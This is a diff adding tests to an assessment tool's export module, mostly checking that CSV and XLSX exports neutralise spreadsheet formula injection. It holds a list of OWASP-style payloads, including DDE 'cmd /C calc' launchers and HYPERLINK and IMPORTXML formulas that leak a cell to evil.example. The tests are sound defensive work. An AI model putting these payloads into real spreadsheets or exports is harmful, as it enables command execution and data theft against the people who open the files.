@@ -5,12 +5,16 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from dataclasses import dataclass
 from datetime import date
+from typing import Any
 
+import pytest
 from openpyxl import load_workbook
 
 from assessment import exports
+from assessment.action_plan import STATUSES
 from assessment.scoring import score
 from gridfactory import choice, item, level, make_grid, number, text_q, yes_no
 
@@ -25,7 +29,7 @@ GRID = make_grid(
     item("emploi", level("e1"), yes_no("e2"), optional=True),
     systemic=[choice("s1", ["a", "b"], horizons=["now"])],
 )
-ANSWERS = {
+ANSWERS: dict[str, dict[str, Any]] = {
     "g1": {"now": 1, "y1": 2, "y3": 4},
     "g2": {"now": 12.5},
     "g3": {"now": "Statuts relus ; AG en mai"},
@@ -125,6 +129,17 @@ def test_action_plan_csv() -> None:
     assert rows[2][1] == "Thème emploi" and rows[2][5] == "" and rows[2][6] == "En cours"
 
 
+def test_action_status_labels_are_the_action_plans() -> None:
+    done = [{"id": 3, "item_id": "gouv", "title": "Fini", "status": s} for s in STATUSES]
+    assert [r["status"] for r in exports.action_rows(GRID, done)] == list(STATUSES.values())
+    assert [r[6] for r in _read_csv(exports.action_plan_csv(GRID, done))[1:]] == [
+        "À faire",
+        "En cours",
+        "Réalisée",
+        "Abandonnée",
+    ]
+
+
 def test_action_plan_xlsx_is_a_real_workbook() -> None:
     data = exports.action_plan_xlsx(GRID, ACTIONS)
     sheet = load_workbook(io.BytesIO(data)).active
@@ -146,3 +161,94 @@ def test_format_number() -> None:
     assert exports.format_number(62.0) == "62"
     assert exports.format_number(62.46) == "62,5"
     assert exports.format_number(None) == ""
+
+
+# ---------------------------------------------------------------------------
+# formula injection (OWASP « CSV Injection »)
+# ---------------------------------------------------------------------------
+
+OWASP_PAYLOADS = [
+    "=1+2",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+    "+1+2",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(A1:A10)",
+    "\t=1+2",
+    "\r=1+2",
+    "|cmd|' /C calc'!A0",
+    "%0A=1+2",
+    " =1+2",
+    "\uff1d1+2",
+    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+]
+"""OWASP's payloads, and variants: every first character a spreadsheet may read
+as the start of a formula."""
+
+
+def _action(title: str, owner: str = "", notes: str = "") -> dict[str, object]:
+    return {
+        "id": 1,
+        "item_id": "gouv",
+        "horizon_id": "y1",
+        "title": title,
+        "owner": owner,
+        "due_on": date(2026, 6, 30),
+        "status": "todo",
+        "notes": notes,
+    }
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_action_plan_csv_neutralises_formulas(payload: str) -> None:
+    rows = _read_csv(exports.action_plan_csv(GRID, [_action(payload, payload, payload)]))
+    title, owner, notes = rows[1][3], rows[1][4], rows[1][7]
+    assert title == owner == notes == "'" + payload
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_results_csv_neutralises_formulas_in_answers(payload: str) -> None:
+    answers = {**ANSWERS, "g3": {"now": payload}}
+    rows = _read_csv(exports.results_csv(GRID, score(GRID, answers), answers))
+    (cell,) = [r[7] for r in rows if r[3] == "g3"]
+    assert cell == "'" + payload
+    assert all(not c or c[0] not in exports.FORMULA_TRIGGERS for r in rows for c in r)
+
+
+def test_real_numbers_stay_numbers() -> None:
+    grid = make_grid(item("gouv", number("n", min=-100, max=100), text_q("t")))
+    answers = {"n": {"now": -12.5, "y1": -3}, "t": {"now": "-4"}}
+    rows = _read_csv(exports.results_csv(grid, score(grid, answers), answers))
+    values = {(r[3], r[5]): r[7] for r in rows if r[0] == "Réponse"}
+    assert values[("n", "now")] == "-12,5" and values[("n", "y1")] == "-3"
+    assert values[("t", "now")] == "-4"  # a plain number cannot be a formula
+    assert exports.safe_cell("-4,5 €") == "'-4,5 €"
+    assert exports.safe_cell("Objectif : -10 %") == "Objectif : -10 %"
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_action_plan_xlsx_has_no_formula_cell(payload: str) -> None:
+    data = exports.action_plan_xlsx(GRID, [_action(payload, payload, payload)])
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    for column in ("D", "E", "H"):
+        cell = sheet[f"{column}2"]
+        assert cell.data_type == "s" and cell.quotePrefix
+        assert cell.value == payload.replace("\r", "\n")  # XML reads a bare CR as LF
+    assert sheet["F2"].data_type == "d" or sheet["F2"].is_date
+
+
+def test_text_that_is_not_valid_unicode_does_not_break_exports() -> None:
+    """Rows stored before the input rule may hold a lone surrogate or a control character."""
+    answers = {**ANSWERS, "g3": {"now": "a\ud800b\x01"}}
+    report = score(GRID, answers)
+    assert "a?b" in exports.results_csv(GRID, report, answers).decode("utf-8-sig")
+    assert json.loads(exports.results_json(GRID, report, answers))["answers"]["g3"]["now"]
+    data = exports.action_plan_xlsx(GRID, [_action("a\ud800b\x01")])
+    assert load_workbook(io.BytesIO(data)).active["D2"].value == "a?b"
